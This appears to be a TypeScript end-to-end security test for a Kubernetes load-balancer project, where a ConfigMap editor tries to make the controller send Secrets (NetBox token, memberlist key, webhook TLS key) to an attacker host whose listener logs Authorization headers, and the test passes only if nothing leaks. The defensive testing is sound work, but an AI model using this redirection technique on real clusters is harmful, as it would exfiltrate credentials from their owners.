import { readFileSync } from "node:fs";
import { setTimeout as sleep } from "node:timers/promises";
import { load, loadAll } from "js-yaml";
import { type ApiObject, DemoCluster, demoConfiguration } from "#e2e/demo-cluster";
import { waitFor } from "#e2e/lab";
import type { Scene } from "./scene.ts";

const namespace = "metallb-system";
const listener = `require("node:http").createServer((request, response) => {
  console.log("asked " + (request.headers.authorization ?? ""));
  response.end("{}");
}).listen(80, "::", () => console.log("listening"));`;

/** Keys of other Secrets that a configuration may ask for by their names. */
const secrets = [
  { name: "memberlist", key: "secretkey" },
  { name: "ingot-webhook", key: "tls.key" },
  { name: "netbox", key: "token" }, // NetBox's own, and another URL.
  { name: "netbox", key: "url" },
];

/** A person who may write the ConfigMap and nothing else. */
export const configurationEditor: Scene = {
  name: "configuration-editor",
  tried: `an editor of the ConfigMap names a URL of his own as NetBox, with each of ${secrets.length} Secrets for the token, and the ring's key as a BGP password`,
  async run(logs) {
    await using cluster = await DemoCluster.start({ logs, nodes: 1 });
    const [node] = cluster.nodes;
    if (node === undefined) throw new Error("Cannot attack: the cluster has no node");
    await waitFor("the speaker to be ready", () => node.speaker.ready());
    for (const component of ["netbox", "validating-webhook"]) await applyComponent(cluster, component);
    const metadata = { namespace, name: "netbox", labels: { "ingot-use": "netbox-token" } };
    const values = { token: "the-token-of-netbox", url: "http://172.30.0.1:9" };
    const data = Object.fromEntries(Object.entries(values).map(([key, text]) => [key, Buffer.from(text).toString("base64")]));
    await cluster.api.apply({ apiVersion: "v1", kind: "Secret", metadata, data });

    const attacker = await cluster.lab.host("attacker");
    await attacker.attach(cluster.lan, { addresses: ["172.30.0.66/24"] });
    await using server = await attacker.spawn("server", [process.execPath, "-e", listener]);
    await server.waitForLine(/^listening$/);
    const started = performance.now();
    const answers: string[] = [];
    for (const { name, key } of secrets) {
      const netbox = `{url: "http://172.30.0.66", token-secret: {name: ${name}, key: ${key}}, tags: [a]}`;
      await cluster.configure(
        `${demoConfiguration}- {name: bait, protocol: layer2, addresses: [172.30.0.190-172.30.0.195], netbox: ${netbox}}\n`,
      );
      await sleep(3_000);
      const { pools } = JSON.parse((await cluster.controllers[0].get("/v1/pools")).body) as {
        pools: readonly { pool: string; verdict: { message: string } }[];
      };
      answers.push(pools.find(({ pool }) => pool === "bait")?.verdict.message ?? "no verdict");
    }
    const peer =
      "{my-asn: 64512, peer-asn: 64513, peer-address: 172.30.0.66, password-secret: {name: memberlist, key: secretkey}}";
    await cluster.configure(`peers:\n- ${peer}\n${demoConfiguration}`);
    await sleep(3_000);
    const [session] = JSON.parse((await node.speaker.get("/v1/bgp/peers")).body) as readonly { waitsFor?: string }[];
    const got = new Set(server.lines.flatMap((line) => /^asked (.*)$/.exec(line)?.[1] ?? []));
    return {
      seconds: (performance.now() - started) / 1000,
      effect: `${got.size} values came to his host${got.size === 0 ? "" : ` (${[...got].map((text) => `${text.length} characters`).join(", ")})`}; the session ${session?.waitsFor === undefined ? "took the key" : "waits"}; the pool said: ${[...new Set(answers)].join(" | ")}`,
      holds: got.size === 0 && session?.waitsFor !== undefined && answers.every((text) => text !== "no verdict"),
    };
  },
};

async function applyComponent({ api }: DemoCluster, name: string): Promise<void> {
  const file = (path: string) => readFileSync(new URL(`../../manifests/components/${name}/${path}`, import.meta.url), "utf8");
  const { resources } = load(file("kustomization.yaml")) as { resources: readonly string[] };
  for (const resource of resources)
    for (const object of loadAll(file(resource)) as ApiObject[]) if (/Role|Secret/.test(object.kind)) await api.apply(object);
}
